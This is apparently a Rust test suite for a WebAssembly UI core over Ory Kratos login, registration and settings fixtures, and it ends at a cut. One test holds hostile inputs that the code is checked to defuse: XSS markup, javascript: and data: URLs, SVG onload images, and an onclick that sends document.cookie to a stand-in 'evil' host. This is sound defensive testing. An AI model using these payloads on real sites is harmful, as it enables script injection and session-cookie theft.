//! The UI core over every node of every Kratos fixture of both eras: what each node becomes,
//! how the nodes are laid out, the body of every submit checked against Kratos' submit
//! schemas, message texts from the catalogue, and the ending of every real answer.

use std::collections::BTreeMap;

use ory_wasm::models::{UiNode, UiNodeGroup, UiText};
use ory_wasm::ui::{
    ending, ending_with, form_body, label_text, message_text, node_view, sections, submit_nodes,
    Ending, EndingContext, FlowKind, LayoutOptions, NodeView, Outcome, Step, Translations,
};
use ory_wasm::Error;
use serde_json::{json, Value};

fn shared(path: &str) -> Value {
    let path = format!("{}/../shared/kratos/{path}", env!("CARGO_MANIFEST_DIR"));
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"));
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{path}: {e}"))
}

/// Every fixture of both eras, by `era/name`.
fn fixtures() -> BTreeMap<String, Value> {
    let mut out = BTreeMap::new();
    for era in ["v0", "v1"] {
        let dir = format!(
            "{}/../shared/kratos/fixtures/{era}",
            env!("CARGO_MANIFEST_DIR")
        );
        for entry in std::fs::read_dir(&dir).unwrap_or_else(|e| panic!("{dir}: {e}")) {
            let name = entry
                .expect("entry")
                .file_name()
                .to_string_lossy()
                .into_owned();
            if name.ends_with(".json") {
                let value = shared(&format!("fixtures/{era}/{name}"));
                out.insert(format!("{era}/{name}"), value);
            }
        }
    }
    out
}

/// The nodes of a fixture: a node list, a `ui` container, or a flow.
fn nodes_of(value: &Value) -> Option<Vec<UiNode>> {
    let raw = if value.is_array() {
        value
    } else if let Some(nodes) = value.get("nodes") {
        nodes
    } else {
        value.get("ui")?.get("nodes")?
    };
    Some(serde_json::from_value(raw.clone()).expect("nodes parse"))
}

fn short(s: &str) -> String {
    s.chars().take(16).collect()
}

/// One line per view, for per-fixture expectations.
fn summary(view: &NodeView) -> String {
    match view {
        NodeView::Hidden {
            name,
            onload_trigger,
            ..
        } => match onload_trigger {
            Some(t) => format!("hidden {name} onload={t}"),
            None => format!("hidden {name}"),
        },
        NodeView::Field {
            name,
            input_type,
            value,
            required,
            autocomplete,
            ..
        } => {
            let mut s = format!("field {name}:{input_type}");
            if *required {
                s.push('*');
            }
            if let Some(a) = autocomplete {
                s.push_str(&format!(" ac={a}"));
            }
            if !value.is_empty() {
                s.push_str(&format!(" ={}", short(value)));
            }
            s
        }
        NodeView::Checkbox { name, checked, .. } => format!("checkbox {name} {checked}"),
        NodeView::Select { name, .. } => format!("select {name}"),
        NodeView::Submit {
            name,
            value,
            provider,
            ..
        } => match provider {
            Some(p) => format!("submit {name}={} provider={p}", short(value)),
            None => format!("submit {name}={}", short(value)),
        },
        NodeView::WebAuthnTrigger {
            name,
            trigger,
            onload_trigger,
            options,
            ..
        } => {
            let mut s = format!("trigger {name}>{trigger}");
            if let Some(t) = onload_trigger {
                s.push_str(&format!(" onload={t}"));
            }
            if options.is_some() {
                s.push_str(" +options");
            }
            s
        }
        NodeView::Image { id, src, .. } => format!(
            "img {} {}",
            id.as_deref().unwrap_or("-"),
            if src.is_some() { "src" } else { "nosrc" }
        ),
        NodeView::Anchor { href, .. } => format!("a {}", href.as_deref().unwrap_or("-")),
        NodeView::Text { id, secrets, .. } => format!(
            "text {} secrets={}",
            id.as_deref().unwrap_or("-"),
            secrets.len()
        ),
        NodeView::Division { .. } => "div".to_owned(),
        NodeView::Script => "script".to_owned(),
        NodeView::Unknown { .. } => "unknown".to_owned(),
    }
}

/// What every node of every fixture with nodes becomes, in node order.
fn expected_views(name: &str) -> &'static [&'static str] {
    match name {
        "v0/login-flow-invalid-credentials.json" => &[
            "submit provider=github provider=github",
            "submit provider=google provider=google",
            "hidden csrf_token",
            "field identifier:text* =sd@fsd",
            "field password:password* ac=current-password",
            "submit method=password",
        ],
        "v0/login-flow-password-oidc.json" => &[
            "submit provider=github provider=github",
            "submit provider=google provider=google",
            "hidden csrf_token",
            "field identifier:text*",
            "field password:password* ac=current-password",
            "submit method=password",
        ],
        "v0/nodes-login-lookup-secret.json" => &[
            "hidden csrf_token",
            "field lookup_secret:text*",
            "submit method=lookup_secret",
        ],
        "v0/nodes-login-totp.json" => &[
            "hidden csrf_token",
            "field totp_code:text*",
            "submit method=totp",
        ],
        "v0/nodes-login-webauthn-mfa.json" => &[
            "hidden csrf_token",
            "hidden identifier",
            "trigger webauthn_login_trigger>oryWebAuthnLogin",
            "hidden webauthn_login",
            "script",
        ],
        "v0/nodes-login-webauthn-passwordless-identifier.json" => &[
            "hidden csrf_token",
            "field identifier:text*",
            "submit method=webauthn",
        ],
        "v0/nodes-recovery-link-sent.json" => &[
            "hidden csrf_token",
            "field email:email* =test@ory.sh",
            "submit method=link",
        ],
        "v0/nodes-registration-webauthn.json" => &[
            "field traits.foobar:text*",
            "field traits.username:text*",
            "hidden csrf_token",
            "field webauthn_register_displayname:text",
            "hidden webauthn_register",
            "trigger webauthn_register_trigger>oryWebAuthnRegistration",
            "script",
            "field password:password*",
            "submit method=password",
        ],
        "v0/nodes-settings-lookup-regenerate.json" => {
            &["hidden csrf_token", "submit lookup_secret_regenerate=true"]
        }
        "v0/nodes-settings-lookup-reveal-disable.json" => &[
            "hidden csrf_token",
            "submit lookup_secret_reveal=true",
            "submit lookup_secret_disable=true",
        ],
        "v0/nodes-settings-totp-unlink.json" => &["hidden csrf_token", "submit totp_unlink=true"],
        "v0/nodes-settings-webauthn-add.json" => &[
            "hidden csrf_token",
            "field webauthn_register_displayname:text",
            "trigger webauthn_register_trigger>oryWebAuthnRegistration",
            "hidden webauthn_register",
            "script",
        ],
        "v0/recovery-flow-link.json" => &[
            "hidden csrf_token",
            "field email:email*",
            "submit method=link",
        ],
        "v0/registration-flow-password-oidc.json" => &[
            "hidden csrf_token",
            "submit provider=github provider=github",
            "submit provider=google provider=google",
            "field traits.email:email* ac=email",
            "field password:password* ac=new-password",
            "field traits.name:text*",
            "checkbox traits.consent.newsletter false",
            "field traits.consent.tos:datetime-local*",
            "submit method=password",
        ],
        "v0/ui-login-oidc.json" => &[
            "hidden csrf_token",
            "submit provider=valid provider=valid",
            "submit provider=invalid-issuer provider=invalid-issuer",
        ],
        "v0/ui-settings-profile.json" => &[
            "hidden csrf_token",
            "field traits.email:text",
            "field traits.stringy:text =foobar",
            "field traits.numby:number =2.5",
            "checkbox traits.booly false",
            "field traits.should_big_number:number =2048",
            "field traits.should_long_string:text =asdfasdfasdfasdf",
            "submit method=profile",
            "field password:password*",
            "submit method=password",
        ],
        "v0/verification-flow-link.json" => &[
            "hidden csrf_token",
            "field email:email*",
            "submit method=link",
        ],
        "v1/flow-recovery-strategy-disabled.json" => &[
            "hidden csrf_token",
            "field email:email*",
            "submit method=code",
        ],
        "v1/login-flow-aal2-all-methods.json" => &[
            "hidden csrf_token",
            "hidden identifier",
            "hidden webauthn_login",
            "script",
            "trigger webauthn_login_trigger>oryWebAuthnLogin",
            "submit address=dev@ory.dev",
            "field totp_code:text*",
            "submit method=totp",
            "field lookup_secret:text*",
            "submit method=lookup_secret",
        ],
        "v1/login-flow-code-sent.json" => &[
            "hidden identifier",
            "hidden method",
            "field code:text*",
            "submit method=code",
            "submit resend=code",
            "hidden csrf_token",
        ],
        "v1/login-flow-oidc-password.json" => &[
            "submit provider=X provider=X",
            "submit provider=apple provider=apple",
            "submit provider=auth0 provider=auth0",
            "submit provider=generic provider=generic",
            "submit provider=github provider=github",
            "submit provider=google provider=google",
            "submit provider=linkedin provider=linkedin",
            "submit provider=microsoft provider=microsoft",
            "hidden csrf_token",
            "field identifier:text*",
            "field password:password* ac=current-password",
            "submit method=password",
        ],
        "v1/login-flow-password-api.json" => &[
            "hidden csrf_token",
            "field identifier:text*",
            "field password:password* ac=current-password",
            "submit method=password",
        ],
        "v1/login-flow-password-browser.json" => &[
            "hidden csrf_token",
            "field identifier:text*",
            "field password:password* ac=current-password",
            "submit method=password",
        ],
        "v1/login-flow-refresh-password.json" => &[
            "hidden csrf_token",
            "hidden identifier",
            "field password:password* ac=current-password",
            "submit method=password",
        ],
        "v1/nodes-login-code-mfa-addresses.json" => &[
            "submit address=+4917655138291",
            "submit address=populateloginmet",
            "submit address=populateloginmet",
            "hidden csrf_token",
        ],
        "v1/nodes-login-code-passwordless.json" => &[
            "field identifier:text*",
            "submit method=code",
            "hidden csrf_token",
        ],
        "v1/nodes-login-identifier-first.json" => &[
            "hidden csrf_token",
            "field identifier:text*",
            "submit method=identifier_first",
        ],
        "v1/nodes-login-lookup-secret.json" => &[
            "hidden csrf_token",
            "field lookup_secret:text*",
            "submit method=lookup_secret",
        ],
        "v1/nodes-login-passkey-first-factor.json" => &[
            "hidden csrf_token",
            "field identifier:text* ac=username webauthn",
            "hidden passkey_challenge",
            "script",
            "hidden passkey_login onload=oryPasskeyLoginAutocompleteInit",
            "trigger passkey_login_trigger>oryPasskeyLogin onload=oryPasskeyLoginAutocompleteInit",
        ],
        "v1/nodes-login-webauthn-mfa.json" => &[
            "hidden csrf_token",
            "hidden identifier",
            "hidden webauthn_login",
            "script",
            "trigger webauthn_login_trigger>oryWebAuthnLogin",
        ],
        "v1/nodes-recovery-code-sent.json" => &[
            "hidden csrf_token",
            "field code:text*",
            "hidden method",
            "submit method=code",
            "submit email=test@ory.sh",
        ],
        "v1/nodes-registration-passkey.json" => &[
            "field traits.foobar:text*",
            "field traits.username:text*",
            "hidden csrf_token",
            "script",
            "hidden passkey_register",
            "trigger passkey_register_trigger>oryPasskeyRegistration",
            "hidden passkey_create_data",
            "field password:password* ac=new-password",
            "submit method=password",
        ],
        "v1/nodes-settings-lookup-codes.json" => &[
            "hidden csrf_token",
            "text lookup_secret_codes secrets=12",
            "submit lookup_secret_disable=true",
            "submit lookup_secret_regenerate=true",
        ],
        "v1/nodes-settings-oidc-link-unlink.json" => &[
            "hidden csrf_token",
            "field traits.email:email* ac=email",
            "field traits.name:text",
            "submit method=profile",
            "field password:password* ac=new-password",
            "submit method=password",
            "submit unlink=github provider=github",
            "submit link=google provider=google",
            "submit unlink=ory provider=ory",
        ],
        "v1/nodes-settings-passkey-add.json" => &[
            "trigger passkey_register_trigger>oryPasskeySettingsRegistration",
            "hidden passkey_settings_register",
            "hidden passkey_create_data",
            "hidden csrf_token",
            "script",
        ],
        "v1/nodes-settings-totp-setup.json" => &[
            "hidden csrf_token",
            "img totp_qr nosrc",
            "text totp_secret_key secrets=0",
            "field totp_code:text*",
            "submit method=totp",
        ],
        "v1/nodes-settings-webauthn-add.json" => &[
            "hidden csrf_token",
            "field webauthn_register_displayname:text",
            "hidden webauthn_register",
            "trigger webauthn_register_trigger>oryWebAuthnRegistration",
            "script",
        ],
        "v1/recovery-flow-code-sent.json" => &[
            "hidden csrf_token",
            "field code:text*",
            "hidden method",
            "submit method=code",
            "submit email=email@example.co",
        ],
        "v1/recovery-flow-code.json" => &[
            "hidden csrf_token",
            "field email:email*",
            "submit method=code",
        ],
        "v1/registration-flow-password-browser.json" => &[
            "hidden csrf_token",
            "field traits.email:email* ac=email",
            "field password:password* ac=new-password",
            "checkbox traits.tos false",
            "submit method=password",
        ],
        "v1/settings-flow-lookup-secret-generated.json" => &[
            "hidden csrf_token",
            "field traits.email:email* ac=email =dev@ory.dev",
            "checkbox traits.tos false",
            "field traits.phone:text",
            "field traits.nested.name:text",
            "submit method=profile",
            "field password:password* ac=new-password",
            "submit method=password",
            "text lookup_secret_codes secrets=12",
            "submit lookup_secret_confirm=true",
        ],
        "v1/settings-flow-unlink-all-methods.json" => &[
            "hidden csrf_token",
            "field traits.email:email* ac=email =test@test.com",
            "field traits.name:text* =Test User",
            "checkbox traits.consent.newsletter true",
            "field traits.consent.tos:datetime-local* =2021-05-21T12:07",
            "submit method=profile",
            "field password:password* ac=new-password",
            "submit method=password",
            "submit unlink=github provider=github",
            "submit unlink=google provider=google",
            "submit lookup_secret_regenerate=true",
            "submit webauthn_remove=8deb8d191cbf8df6",
            "field webauthn_register_displayname:text",
            "trigger webauthn_register_trigger>oryWebAuthnRegistration +options",
            "hidden webauthn_register",
            "script",
            "submit totp_unlink=true",
        ],
        "v1/ui-registration-oidc.json" => &[
            "hidden csrf_token",
            "submit provider=valid provider=valid",
            "submit provider=valid2 provider=valid2",
            "submit provider=secondProvider provider=secondProvider",
            "submit provider=claimsViaUserInf provider=claimsViaUserInfo",
            "submit provider=neverPKCE provider=neverPKCE",
            "submit provider=autoPKCE provider=autoPKCE",
            "submit provider=forcePKCE provider=forcePKCE",
            "submit provider=invalid-issuer provider=invalid-issuer",
        ],
        "v1/ui-settings-profile.json" => &[
            "hidden csrf_token",
            "field traits.email:text",
            "field traits.stringy:text =foobar",
            "field traits.numby:number =2.5",
            "checkbox traits.booly false",
            "field traits.should_big_number:number =2048",
            "field traits.should_long_string:text =asdfasdfasdfasdf",
            "submit method=profile",
            "field password:password* ac=new-password",
            "submit method=password",
        ],
        "v1/verification-flow-code-sent.json" => &[
            "field code:text*",
            "hidden method",
            "submit method=code",
            "submit email=email@example.co",
            "hidden csrf_token",
        ],
        "v1/verification-flow-code.json" => &[
            "hidden csrf_token",
            "field email:email*",
            "submit method=code",
        ],
        other => panic!("no expectation for {other}: every fixture with nodes must have one"),
    }
}

#[test]
fn every_node_of_every_fixture_has_its_view() {
    let mut checked_fixtures = 0;
    let mut checked_nodes = 0;
    for (name, value) in fixtures() {
        let Some(nodes) = nodes_of(&value) else {
            continue;
        };
        let views: Vec<NodeView> = nodes.iter().map(node_view).collect();
        let got: Vec<String> = views.iter().map(summary).collect();
        if std::env::var_os("PRINT_VIEWS").is_some() {
            println!("\"{name}\" => &{got:#?},");
            continue;
        }
        assert_eq!(got, expected_views(&name), "{name}");
        // No JavaScript string of any node survives into any view.
        for (node, view) in nodes.iter().zip(&views) {
            let debug = format!("{view:?}");
            if let Some(input) = node.attributes.as_input() {
                // (Snapshots normalise some onclick strings to `{}`, which is also the value.)
                let scripts = [&input.onclick, &input.onload];
                for js in scripts.into_iter().flatten().filter(|js| js.len() > 2) {
                    assert!(!debug.contains(js.as_str()), "{name}: {js} leaked");
                }
            }
            assert!(!debug.contains("window."), "{name}: {debug}");
        }
        checked_fixtures += 1;
        checked_nodes += nodes.len();
    }
    if std::env::var_os("PRINT_VIEWS").is_none() {
        assert!(checked_fixtures >= 45, "{checked_fixtures}");
        assert!(checked_nodes >= 250, "{checked_nodes}");
    }
}

/// The flow a fixture belongs to, from its name.
fn flow_of(name: &str) -> FlowKind {
    for (word, kind) in [
        ("login", FlowKind::Login),
        ("registration", FlowKind::Registration),
        ("settings", FlowKind::Settings),
        ("recovery", FlowKind::Recovery),
        ("verification", FlowKind::Verification),
    ] {
        if name.contains(word) {
            return kind;
        }
    }
    panic!("no flow kind in {name}")
}

#[test]
fn layout_places_every_node_once_in_order() {
    let order = [
        "default",
        "identifier_first",
        "profile",
        "password",
        "code",
        "link",
        "passkey",
        "webauthn",
        "totp",
        "lookup_secret",
        "oidc",
        "saml",
        "captcha",
    ];
    for (name, value) in fixtures() {
        let Some(nodes) = nodes_of(&value) else {
            continue;
        };
        let layout = sections(&nodes, &LayoutOptions::default());
        let mut placed: Vec<*const UiNode> = layout.hidden.iter().map(|n| *n as *const _).collect();
        for section in &layout.sections {
            assert!(!section.nodes.is_empty(), "{name}");
            assert!(section.nodes.iter().all(|n| n.group == section.group));
            placed.extend(section.nodes.iter().map(|n| *n as *const UiNode));
        }
        for node in &nodes {
            let count = placed.iter().filter(|p| std::ptr::eq(**p, node)).count();
            let expected = usize::from(!matches!(node_view(node), NodeView::Script));
            assert_eq!(count, expected, "{name}: {:?}", node.input_name());
        }
        for hidden in &layout.hidden {
            assert_eq!(hidden.group, UiNodeGroup::Default, "{name}");
            assert!(matches!(node_view(hidden), NodeView::Hidden { .. }));
        }
        let ranks: Vec<usize> = layout
            .sections
            .iter()
            .map(|s| {
                order
                    .iter()
                    .position(|g| *g == s.group.as_str())
                    .expect("known group")
            })
            .collect();
        assert!(ranks.windows(2).all(|w| w[0] < w[1]), "{name}: {ranks:?}");
    }
}

#[test]
fn layout_of_specific_flows() {
    let all = fixtures();
    let groups = |name: &str, options: &LayoutOptions| -> (Vec<String>, Vec<String>) {
        let nodes = nodes_of(&all[name]).expect("nodes");
        let layout = sections(&nodes, options);
        (
            layout
                .hidden
                .iter()
                .filter_map(|n| n.input_name().map(str::to_owned))
                .collect(),
            layout
                .sections
                .iter()
                .map(|s| s.group.to_string())
                .collect(),
        )
    };
    let default = LayoutOptions::default();
    // Password-only registration: the traits live in the `password` group.
    assert_eq!(
        groups("v1/registration-flow-password-browser.json", &default),
        (vec!["csrf_token".into()], vec!["password".into()])
    );
    // Several methods: the traits move to `default`, rendered first.
    assert_eq!(
        groups("v1/nodes-registration-passkey.json", &default).1,
        ["default", "password", "passkey"]
    );
    // Settings: traits in `profile`.
    assert_eq!(
        groups("v1/settings-flow-unlink-all-methods.json", &default).1,
        [
            "profile",
            "password",
            "webauthn",
            "totp",
            "lookup_secret",
            "oidc"
        ]
    );
    // Identifier-first: the identifier lives in its own group.
    assert_eq!(
        groups("v1/nodes-login-identifier-first.json", &default).1,
        ["identifier_first"]
    );
    // The refresh login keeps the prefilled identifier hidden.
    assert_eq!(
        groups("v1/login-flow-refresh-password.json", &default).0,
        ["csrf_token", "identifier"]
    );
    let only_oidc = LayoutOptions {
        only: Some(vec![UiNodeGroup::Oidc]),
        order: None,
    };
    assert_eq!(
        groups("v1/login-flow-oidc-password.json", &only_oidc),
        (vec!["csrf_token".into()], vec!["oidc".into()])
    );
    let oidc_first = LayoutOptions {
        only: None,
        order: Some(vec![UiNodeGroup::Oidc]),
    };
    assert_eq!(
        groups("v1/login-flow-oidc-password.json", &oidc_first).1,
        ["oidc", "default", "password"]
    );
}

/// The submit schema for a submit of `group` in flow `kind` of `era`.
fn schema_for(era: &str, kind: FlowKind, group: &UiNodeGroup) -> Value {
    let tag = if era == "v0" { "v0.10.1" } else { "v1.3.1" };
    let strategy = match group.as_str() {
        "lookup_secret" => "lookup",
        "identifier_first" => "idfirst",
        other => other,
    };
    let flow = match (strategy, kind) {
        ("oidc", FlowKind::Login | FlowKind::Registration) => "link",
        _ => kind.as_str(),
    };
    shared(&format!("submit-schemas/{tag}/{strategy}.{flow}.json"))
}

/// A hand check of a body against a schema: required members present, declared members of
/// the declared JSON type, and members the schema does not declare only the shared `default`
/// fields (which Kratos' schemas accept: none forbids additional properties).
fn check_against_schema(context: &str, body: &Value, schema: &Value, nodes: &[UiNode]) {
    let body = body.as_object().expect("object body");
    let properties = schema["properties"].as_object().expect("properties");
    for required in schema["required"].as_array().into_iter().flatten() {
        let required = required.as_str().expect("name");
        assert!(body.contains_key(required), "{context}: {required} missing");
    }
    // Every strategy routes on `method` (`flow.method.json`); v0's oidc schema omits it but
    // its OpenAPI body requires it.
    let mut default_names: Vec<&str> = vec!["method"];
    default_names.extend(
        nodes
            .iter()
            .filter(|n| n.group == UiNodeGroup::Default)
            .filter_map(|n| n.input_name())
            .map(|n| n.split('.').next().unwrap_or(n)),
    );
    for (key, value) in body {
        match properties.get(key) {
            Some(declared) => {
                if let Some(t) = declared.get("type").and_then(Value::as_str) {
                    let ok = match t {
                        "string" => value.is_string(),
                        "boolean" => value.is_boolean(),
                        "object" => value.is_object(),
                        _ => true,
                    };
                    assert!(ok, "{context}: {key} should be {t}, is {value}");
                }
            }
            None => assert!(
                default_names.contains(&key.as_str()),
                "{context}: {key} is not in the schema"
            ),
        }
    }
}

#[test]
fn every_submit_of_every_fixture_satisfies_its_schema() {
    let mut checked = 0;
    for (name, value) in fixtures() {
        let Some(nodes) = nodes_of(&value) else {
            continue;
        };
        let era = &name[..2];
        let kind = flow_of(&name);
        for node in &nodes {
            let (group, submitter) = match node_view(node) {
                NodeView::Submit {
                    name, value, group, ..
                } => (group, Some((name, value))),
                // The SDK's WebAuthn code submits the group itself after the ceremony.
                NodeView::WebAuthnTrigger { group, .. } => (group, None),
                _ => continue,
            };
            let submitter_ref = submitter.as_ref().map(|(n, v)| (n.as_str(), v.as_str()));
            let body = form_body(&nodes, &group, submitter_ref, |_| None)
                .unwrap_or_else(|e| panic!("{name}: {e}"));
            let context = format!("{name} {group} {submitter:?}");
            check_against_schema(&context, &body, &schema_for(era, kind, &group), &nodes);
            if nodes.iter().any(|n| n.input_name() == Some("csrf_token")) {
                assert!(body.get("csrf_token").is_some(), "{context}");
            }
            checked += 1;
        }
    }
    assert!(checked >= 90, "{checked}");
}

fn body_of(fixture: &str, group: &str, submitter: Option<(&str, &str)>) -> Value {
    let all = fixtures();
    let nodes = nodes_of(&all[fixture]).expect("nodes");
    form_body(&nodes, &UiNodeGroup::from(group), submitter, |_| None).expect("body")
}

#[test]
fn concrete_bodies() {
    let all = fixtures();
    let login = nodes_of(&all["v1/login-flow-password-browser.json"]).expect("nodes");
    let csrf =
        "24I7BFl9PNOueG3K8mn7+ejY8OXMWQL2rp7M8HUQTV6Jj8ZMRFp3L36H2HrrwHR3JM7eVqhrG6DeHs4f9OWkwA==";
    let typed = form_body(
        &login,
        &UiNodeGroup::Password,
        Some(("method", "password")),
        |node| match node.input_name() {
            Some("identifier") => Some(ory_wasm::ui::FieldValue::Text("ada@example.com".into())),
            Some("password") => Some(ory_wasm::ui::FieldValue::Text("pw".into())),
            _ => None,
        },
    )
    .expect("body");
    assert_eq!(typed["csrf_token"].as_str().map(str::len), Some(csrf.len()));
    assert_eq!(typed["identifier"], "ada@example.com");
    assert_eq!(typed["password"], "pw");
    assert_eq!(typed["method"], "password");
    assert_eq!(typed.as_object().map(|o| o.len()), Some(4));

    let registration = body_of(
        "v1/registration-flow-password-browser.json",
        "password",
        Some(("method", "password")),
    );
    assert_eq!(registration["traits"], json!({"email": "", "tos": false}));

    let profile = body_of(
        "v1/ui-settings-profile.json",
        "profile",
        Some(("method", "profile")),
    );
    assert_eq!(
        profile,
        json!({"csrf_token": "", "method": "profile", "traits": {"stringy": "foobar", "numby": 2.5, "booly": false,
               "should_big_number": 2048, "should_long_string": "asdfasdfasdfasdfasfdasdfasdfasdf"}})
    );

    let unlink_all = "v1/settings-flow-unlink-all-methods.json";
    let csrf = all[unlink_all]["ui"]["nodes"][0]["attributes"]["value"].clone();
    assert_eq!(
        body_of(unlink_all, "totp", Some(("totp_unlink", "true"))),
        json!({"csrf_token": csrf, "method": "totp", "totp_unlink": true})
    );
    assert_eq!(
        body_of(
            unlink_all,
            "lookup_secret",
            Some(("lookup_secret_regenerate", "true"))
        ),
        json!({"csrf_token": csrf, "method": "lookup_secret", "lookup_secret_regenerate": true})
    );
    assert_eq!(
        body_of(unlink_all, "oidc", Some(("unlink", "github"))),
        json!({"csrf_token": csrf, "unlink": "github"})
    );
    let remove = body_of(unlink_all, "webauthn", Some(("webauthn_remove", "8deb")));
    assert_eq!(remove["webauthn_remove"], "8deb");
    assert_eq!(remove["method"], "webauthn");
    assert_eq!(
        body_of(unlink_all, "profile", Some(("method", "profile")))["traits"],
        json!({"email": "test@test.com", "name": "Test User",
               "consent": {"newsletter": true, "tos": "2021-05-21T12:07:56.420Z"}})
    );

    let aal2 = "v1/login-flow-aal2-all-methods.json";
    assert_eq!(
        body_of(aal2, "code", Some(("address", "dev@ory.dev"))),
        json!({"csrf_token": "AAAAAAA/AAAAAA/2+AAAAAAAA==", "identifier": "dev@ory.dev",
               "address": "dev@ory.dev", "method": "code"})
    );
    let resend = body_of(
        "v1/login-flow-code-sent.json",
        "code",
        Some(("resend", "code")),
    );
    assert_eq!(resend["resend"], "code");
    assert_eq!(resend["method"], "code");
    assert_eq!(resend["code"], "");

    // Passkey login after the ceremony: the challenge options are not sent back.
    let passkey = body_of("v1/nodes-login-passkey-first-factor.json", "passkey", None);
    assert_eq!(
        passkey,
        json!({"csrf_token": "", "identifier": "", "passkey_login": "", "method": "passkey"})
    );
    // A provider click carries no half-typed identifier.
    assert_eq!(
        body_of(
            "v1/login-flow-oidc-password.json",
            "oidc",
            Some(("provider", "github"))
        )
        .as_object()
        // Sorted: key order depends on serde_json's `preserve_order` feature.
        .map(|o| o.keys().cloned().collect::<std::collections::BTreeSet<_>>()),
        Some(["csrf_token".to_owned(), "method".into(), "provider".into()].into())
    );
    // Submit of `password` carries `default` + `password`, never another group's inputs.
    let carried: Vec<&str> = submit_nodes(&login, &UiNodeGroup::Password)
        .iter()
        .filter_map(|n| n.input_name())
        .collect();
    assert_eq!(carried, ["csrf_token", "identifier", "password"]);
}

fn hostile(attributes: Value, node_type: &str, group: &str, label: Option<&str>) -> UiNode {
    let meta = match label {
        Some(text) => json!({"label": {"id": 1, "text": text, "type": "info"}}),
        None => json!({}),
    };
    serde_json::from_value(
        json!({"type": node_type, "group": group, "attributes": attributes,
                                  "messages": [], "meta": meta}),
    )
    .expect("node")
}

#[test]
fn hostile_nodes_are_defused() {
    // Markup in labels stays text: the view carries it verbatim for textContent.
    let markup = "<img src=x onerror=alert(1)>";
    let view = node_view(&hostile(
        json!({"name": "identifier", "type": "text", "node_type": "input"}),
        "input",
        "default",
        Some(markup),
    ));
    let NodeView::Field { label, .. } = &view else {
        panic!("{view:?}")
    };
    assert_eq!(label.as_ref().map(|l| l.text.as_str()), Some(markup));

    // `javascript:` (in any case, with control characters) is no link.
    for href in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>",
        "vbscript:x",
    ] {
        let view = node_view(&hostile(
            json!({"href": href, "title": {"id": 1, "text": "Go", "type": "info"},
                   "node_type": "a"}),
            "a",
            "default",
            None,
        ));
        assert!(
            matches!(view, NodeView::Anchor { href: None, .. }),
            "{href}: {view:?}"
        );
    }
    let ok = node_view(&hostile(
        json!({"href": "https://example.com/x", "title": {"id": 1, "text": "Go", "type": "info"},
               "node_type": "a"}),
        "a",
        "default",
        None,
    ));
    assert!(matches!(ok, NodeView::Anchor { href: Some(_), .. }));

    // `onclick` / `onload` strings never reach the view.
    let js = "window.oryWebAuthnLogin();fetch('https://evil/'+document.cookie)";
    let view = node_view(&hostile(
        json!({"name": "webauthn_login_trigger", "type": "button", "value": "",
               "onclick": js, "onload": js, "onclickTrigger": "oryWebAuthnLogin",
               "node_type": "input"}),
        "input",
        "webauthn",
        None,
    ));
    assert!(!format!("{view:?}").contains("evil"));
    assert!(matches!(
        view,
        NodeView::WebAuthnTrigger { options: None, .. }
    ));
    let submit = node_view(&hostile(
        json!({"name": "method", "type": "submit", "value": "password", "onclick": "alert(1)",
               "node_type": "input"}),
        "input",
        "password",
        None,
    ));
    assert!(!format!("{submit:?}").contains("alert"));

    // Scripts pointing anywhere are dropped.
    for src in ["https://evil.example/x.js", "javascript:alert(1)", ""] {
        let view = node_view(&hostile(
            json!({"src": src, "id": "webauthn_script", "type": "text/javascript",
                   "node_type": "script"}),
            "script",
            "webauthn",
            None,
        ));
        assert_eq!(view, NodeView::Script);
    }
    // Even a script whose attributes do not fit the typed struct.
    let weird_script = hostile(json!({"src": 5}), "script", "webauthn", None);
    assert_eq!(node_view(&weird_script), NodeView::Script);

    // Images: SVG data, other schemes and broken base64 have no source; PNG and https do.
    for (src, safe) in [
        ("data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", false),
        ("data:image/svg+xml,<svg onload=alert(1)>", false),
        ("data:image/png;base64,not base64!", false),
        ("javascript:alert(1)", false),
        ("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==", true),
        ("https://example.com/qr.png", true),
    ] {
        let view = node_view(&hostile(
            json!({"src": src, "id": "totp_qr", "width": 256, "height": 256, "node_type": "img"}),
            "img",
            "totp",
            Some("QR code"),
        ));
        let NodeView::Image { src: got, label, .. } = &view else {
            panic!("{view:?}")
        };
        assert_eq!(got.is_some(), safe, "{src}");
        assert_eq!(label.as_ref().map(|l| l.text.as_str()), Some("QR code"));
    }

    // Unknown node kinds and input types degrade without panicking.
    let unknown = node_view(&hostile(
        json!({"node_type": "hologram"}),
        "hologram",
        "x",
        Some("L"),
    ));
    assert!(matches!(unknown, NodeView::Unknown { label: Some(_) }));
    let garbage = node_view(&hostile(json!([1, 2]), "input", "default", None));
    assert_eq!(garbage, NodeView::Unknown { label: None });
    let weird_type = node_view(&hostile(
        json!({"name": "x", "type": "file", "value": {"a": 1}, "node_type": "input"}),
        "input",
        "default",
        None,
    ));
    assert!(
        matches!(weird_type, NodeView::Field { ref input_type, ref value, .. }
            if input_type == "text" && value == r#"{"a":1}"#)
    );
}

#[test]
fn totp_setup_with_a_real_qr_and_secret() {
    let all = fixtures();
    let mut nodes = all["v1/nodes-settings-totp-setup.json"].clone();
    let png = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
    nodes[1]["attributes"]["src"] = json!(png);
    nodes[2]["attributes"]["text"] = json!({"id": 1050006, "text": "JBSWY3DPEHPK3PXP", "type": "info",
               "context": {"secret": "JBSWY3DPEHPK3PXP"}});
    let nodes: Vec<UiNode> = serde_json::from_value(nodes).expect("nodes");
    assert!(
        matches!(node_view(&nodes[1]), NodeView::Image { src: Some(ref s), width: Some(256), .. } if s == png)
    );
    let NodeView::Text { text, label, .. } = node_view(&nodes[2]) else {
        panic!()
    };
    assert_eq!(message_text(&text, None), "JBSWY3DPEHPK3PXP");
    let mut de = Translations::new();
    de.insert(1050006, "Geheimnis: {secret}");
    assert_eq!(
        message_text(&text, Some(&de)),
        "Geheimnis: JBSWY3DPEHPK3PXP"
    );
    assert_eq!(label.map(|l| l.id), Some(1050017));
}

#[test]
